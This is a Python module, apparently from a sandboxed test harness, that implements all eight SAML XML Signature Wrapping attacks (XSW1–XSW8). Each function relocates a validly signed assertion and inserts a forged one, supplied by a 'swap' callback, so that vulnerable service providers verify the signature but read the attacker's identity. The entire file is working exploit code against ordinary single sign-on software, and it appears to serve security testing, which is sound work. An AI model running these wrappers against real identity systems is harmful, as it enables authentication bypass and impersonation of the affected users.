"""XML signature wrapping, eight ways (Somorovsky and others, 2012, numbered as SAML Raider does).

In each the signature is whole and fits what it names; a reader that looks for an assertion elsewhere finds the forged
one. `swap` turns an assertion into the forger's.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy

from connectors.sandbox.tax.xml import PREFIXES, Element, add, element, new_id

Swap = Callable[[Element], None]


def _found(parent: Element, name: str) -> Element:
    found = parent.find(name, PREFIXES)
    if found is None:
        raise ValueError(f"nothing to wrap: no {name}")
    return found


def _without_signature(signed: Element) -> Element:
    copy = deepcopy(signed)
    copy.remove(_found(copy, "ds:Signature"))
    return copy


def _forged(assertion: Element, swap: Swap) -> Element:
    forged = _without_signature(assertion)
    forged.set("ID", new_id())
    swap(forged)
    return forged


def _signed_response(response: Element, swap: Swap) -> tuple[Element, Element]:
    """The forged response's signature, and what that covers: the original, to be put elsewhere."""
    original = _without_signature(response)
    response.set("ID", new_id())
    assertion = _found(response, "saml:Assertion")
    assertion.set("ID", new_id())
    swap(assertion)
    return _found(response, "ds:Signature"), original


def xsw1(response: Element, swap: Swap) -> Element:
    """The original response inside the signature of the forged one."""
    signature, original = _signed_response(response, swap)
    signature.append(original)
    return response


def xsw2(response: Element, swap: Swap) -> Element:
    """The original response beside the signature, before it."""
    signature, original = _signed_response(response, swap)
    signature.addprevious(original)
    return response


def xsw3(response: Element, swap: Swap) -> Element:
    """The forged assertion before the original."""
    assertion = _found(response, "saml:Assertion")
    assertion.addprevious(_forged(assertion, swap))
    return response


def xsw4(response: Element, swap: Swap) -> Element:
    """The original inside the forged assertion."""
    assertion = _found(response, "saml:Assertion")
    forged = _forged(assertion, swap)
    response.append(forged)
    forged.append(assertion)
    return response


def _signed_assertion(response: Element, swap: Swap) -> tuple[Element, Element]:
    """The forged assertion, which keeps the signature, and the original, which that covers."""
    assertion = _found(response, "saml:Assertion")
    original = _without_signature(assertion)
    assertion.set("ID", new_id())
    swap(assertion)
    return assertion, original


def xsw5(response: Element, swap: Swap) -> Element:
    """The original, without its signature, at the end of the response."""
    _, original = _signed_assertion(response, swap)
    response.append(original)
    return response


def xsw6(response: Element, swap: Swap) -> Element:
    """The original inside the signature that the forged assertion carries."""
    assertion, original = _signed_assertion(response, swap)
    _found(assertion, "ds:Signature").append(original)
    return response


def xsw7(response: Element, swap: Swap) -> Element:
    """The forged assertion in an Extensions element, which may hold anything."""
    assertion = _found(response, "saml:Assertion")
    extensions = element("samlp:Extensions")
    extensions.append(_forged(assertion, swap))
    _found(response, "samlp:Status").addprevious(extensions)
    return response


def xsw8(response: Element, swap: Swap) -> Element:
    """The original in an Object of the signature, which may hold anything as well."""
    assertion, original = _signed_assertion(response, swap)
    add(_found(assertion, "ds:Signature"), "ds:Object").append(original)
    return response


WRAPPED: dict[str, Callable[[Element, Swap], Element]] = {
    made.__name__: made for made in (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
}
